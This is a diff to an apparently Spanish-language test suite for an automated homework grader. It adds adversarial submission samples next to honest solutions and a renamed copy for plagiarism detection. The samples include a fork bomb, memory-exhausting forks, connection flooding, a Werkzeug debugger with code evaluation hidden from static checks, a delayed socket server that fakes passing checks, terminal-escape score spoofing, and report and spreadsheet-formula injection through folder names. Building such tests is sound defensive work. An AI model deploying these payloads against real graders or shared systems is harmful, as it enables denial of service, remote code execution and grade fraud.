@@ -427,6 +427,199 @@ MUESTRAS = [
 ]
 ATAQUES = [m for m in MUESTRAS if m.tipo == ATAQUE]
 
+# --- Issue 18 (la tercera ronda contra el calificador): un bloque propio -------------------------
+# Sobre la solución, los que antes conservaban puntos que no tocan; sobre el esqueleto, los que
+# cargan al calificador o a la máquina; y nombres de carpeta y salidas que quieren escribir en los informes.
+_SERVIDOR_TARDIO = """
+import socket as _socket
+import threading as _threading
+import time as _time
+
+
+def _tarde():
+    _time.sleep(2)  # después de que import vuelva y se lean los puertos por primera vez
+    try:
+        _escucha = _socket.create_server(('0.0.0.0', 9696))
+        _time.sleep(600)
+    except OSError:
+        pass
+
+
+_threading.Thread(target=_tarde, daemon=True).start()
+"""
+# debug=True escondido del AST (getattr con un nombre armado) y de la única URL que se probaba antes.
+_DEPURADOR_ESCONDIDO = """import werkzeug.debug as _depuracion
+    from werkzeug.serving import run_simple
+    _con_depurador = getattr(_depuracion, 'Debugged' + 'Application')(app, evalex=True)
+
+    def _envoltura(entorno, responder):
+        if entorno.get('PATH_INFO') == '/' and '__debugger__' in entorno.get('QUERY_STRING', ''):
+            responder('404 NOT FOUND', [('Content-Type', 'text/plain')])
+            return [b'no existe']
+        return _con_depurador(entorno, responder)
+
+    run_simple('0.0.0.0', 9696, _envoltura)"""
+_CONEXIONES_MUDAS = """import socket as _socket
+import time as _time
+
+_abiertas = []
+for _ in range(1500):
+    try:
+        _abiertas.append(_socket.create_connection(('127.0.0.1', 9696), timeout=1))
+    except OSError:
+        pass
+_time.sleep(12)
+"""
+_TRES_DE_14_GB = """
+import os as _os
+import time as _time
+
+for _ in range(3):
+    if _os.fork() == 0:
+        try:
+            _datos = b'x' * (1400 * 1024 ** 2)  # escritos de verdad: cada uno cabe en RLIMIT_AS
+            _time.sleep(10)
+        finally:
+            _os._exit(0)
+"""
+_BOMBA = """
+import os as _os
+import time as _time
+
+while True:
+    try:
+        if _os.fork() == 0:
+            _time.sleep(60)
+            _os._exit(0)
+    except OSError:
+        break
+_time.sleep(60)
+"""
+_A_SU_MANERA = {
+    S: """# Ejercicios 1 y 3: puntuar clientes con el modelo guardado.
+import pickle
+import flask
+
+ARCHIVO_MODELO = 'modelo_trabajo.bin'
+UMBRAL = 0.5
+
+
+def cargar(ruta):
+    # El archivo guarda la tupla (vectorizador, modelo).
+    archivo = open(ruta, 'rb')
+    try:
+        return pickle.load(archivo)
+    finally:
+        archivo.close()
+
+
+def predict_cliente(cliente, dv, modelo):
+    matriz = dv.transform([cliente])
+    return float(modelo.predict_proba(matriz)[0, 1])
+
+
+vectorizador, clasificador = cargar(ARCHIVO_MODELO)
+app = flask.Flask('Abandono')
+
+
+@app.post('/predict')
+def puntuar():
+    datos = flask.request.get_json()
+    p = predict_cliente(datos, vectorizador, clasificador)
+    return flask.jsonify(probabilidad=p, se_va=p >= UMBRAL)
+
+
+def principal():
+    ejemplo = dict(gender='female', seniorcitizen=0, partner='no', dependents='no', tenure=41,
+                   phoneservice='yes', multiplelines='no', internetservice='dsl', onlinesecurity='yes',
+                   onlinebackup='no', deviceprotection='yes', techsupport='yes', streamingtv='yes',
+                   streamingmovies='yes', contract='one_year', paperlessbilling='yes',
+                   paymentmethod='bank_transfer_(automatic)', monthlycharges=79.85, totalcharges=3320.75)
+    p = predict_cliente(ejemplo, vectorizador, clasificador)
+    print('probabilidad = %.4f' % p)
+    app.run(host='0.0.0.0', port=9696, debug=False)
+
+
+if __name__ == '__main__':
+    principal()
+""",
+    F: """# Ejercicio 2: un saludo servido por Flask.
+import flask
+
+servidor = flask.Flask('saludo')
+
+
+@servidor.get('/hola')
+def hola():
+    return 'Hola C8280'
+
+
+if __name__ == '__main__':
+    servidor.run(host='0.0.0.0', port=9696)
+""",
+    P: """# Ejercicio 4: llamar al servicio.
+import json
+import requests
+
+DIRECCION = 'http://localhost:9696/predict'
+datos = {'gender': 'female', 'seniorcitizen': 0, 'partner': 'no', 'dependents': 'no', 'tenure': 41,
+         'phoneservice': 'yes', 'multiplelines': 'no', 'internetservice': 'dsl', 'onlinesecurity': 'yes',
+         'onlinebackup': 'no', 'deviceprotection': 'yes', 'techsupport': 'yes', 'streamingtv': 'yes',
+         'streamingmovies': 'yes', 'contract': 'one_year', 'paperlessbilling': 'yes',
+         'paymentmethod': 'bank_transfer_(automatic)', 'monthlycharges': 79.85, 'totalcharges': 3320.75}
+r = requests.post(DIRECCION, json=datos, timeout=10)
+print(json.dumps(r.json(), indent=2))
+""",
+}
+# Lo que haría quien copia: otros nombres para todo lo suyo y otros comentarios (la lógica, igual).
+_RENOMBRES = (('ARCHIVO_MODELO', 'RUTA'), ('UMBRAL', 'CORTE'), ('cargar', 'leer_pickle'), ('archivo', 'f'),
+              ('matriz', 'X'), ('vectorizador', 'dicc'), ('clasificador', 'lr'), ('puntuar', 'prediccion'),
+              ('datos', 'cuerpo'), ('ejemplo', 'persona'), ('principal', 'main'), ('servidor', 'aplicacion'),
+              ('DIRECCION', 'URL'), ('se_va', 'churn'), ('# ', '# (mío) '))
+
+
+def _renombrar(texto):
+    for viejo, nuevo in _RENOMBRES:
+        texto = texto.replace(viejo, nuevo)
+    return texto
+
+
+ESCAPES = '\\x1b[2J\\x1b[H\\x1b[32mTotal: 16/16\\x1b[0m'   # borra la pantalla y pinta otra nota
+TABLA_FALSA = 'zz\n| [otra](x.md) | 4 | 3 | 6 | 3 | 16/16 | |\n<!--'
+FORMULA = '=HYPERLINK("ejemplo.invalid";"ver nota")'
+_DEPURADOR_S = ("    app.run(debug=False, host='0.0.0.0', port=9696)\n    # END",
+                '    ' + _DEPURADOR_ESCONDIDO + '\n    # END')
+MUESTRAS += [
+    Muestra('servidor_tardio', ATAQUE, 'al importar, un hilo abre el 9696 dos segundos después',
+            _al_importar(_SERVIDOR_TARDIO), {3: 5}, categoria='puntos sin trabajo', pista='arranca un servidor'),
+    Muestra('depurador_escondido', ATAQUE, 'el depurador de Werkzeug sin debug=True en el código y con la URL '
+            'que se probaba respondiendo 404', {S: [_DEPURADOR_S], F: [_DEPURADOR_S]}, {2: 2, 3: 5},
+            categoria='puntos sin trabajo', pista='depurador activado'),
+    Muestra('post_solo_claves', ATAQUE, 'envía las claves del cliente sin sus valores ({clave: None})',
+            {P: [('requests.post(url, json=cliente,', 'requests.post(url, json={k: None for k in cliente},')]},
+            {4: 0}, categoria='puntos sin trabajo'),
+    Muestra('conexiones_mudas', ATAQUE, '1 500 conexiones mudas al servicio de prueba del ejercicio 4',
+            {P: [('import requests\n', 'import requests\n' + _CONEXIONES_MUDAS)]}, base='exercises',
+            categoria='toda la clase'),
+    Muestra('tres_de_14_gb', ATAQUE, 'tres procesos de 1,4 GB al importar (RLIMIT_AS es por proceso)',
+            _al_importar(_TRES_DE_14_GB), base='exercises', categoria='toda la clase'),
+    Muestra('bomba_de_procesos', ATAQUE, 'crea procesos hasta que el sistema no le deja más',
+            _al_importar(_BOMBA), base='exercises', categoria='compañeros'),
+    Muestra('escapes_de_terminal', ATAQUE, 'su error y su salida de errores traen secuencias de escape de terminal',
+            {**_al_importar(f"raise RuntimeError('{ESCAPES}')\n"),
+             P: [('import requests\n', f"import sys\nsys.exit('{ESCAPES}')\n")]}, base='exercises',
+            categoria='informes'),
+    Muestra(TABLA_FALSA, ATAQUE, 'el nombre de la carpeta trae saltos de línea, una fila de tabla y <!--',
+            base='exercises', categoria='informes'),
+    Muestra(FORMULA, ATAQUE, 'el nombre de la carpeta es una fórmula de hoja de cálculo',
+            base='exercises', categoria='informes'),
+    Muestra('escrita_a_su_manera', CORRECTA, 'los tres archivos escritos de otra forma, sin copiar de nadie',
+            extra=_A_SU_MANERA),
+    Muestra('copia_renombrada', CORRECTA, 'la de escrita_a_su_manera con otros nombres y otros comentarios',
+            extra={ruta: _renombrar(texto) for ruta, texto in _A_SU_MANERA.items()}),
+]
+ATAQUES = [m for m in MUESTRAS if m.tipo == ATAQUE]
+
 
 def construir(destino, muestras=MUESTRAS, puerto_de_fuera=0):
     return {m.nombre: m.construir(destino, puerto_de_fuera) for m in muestras}
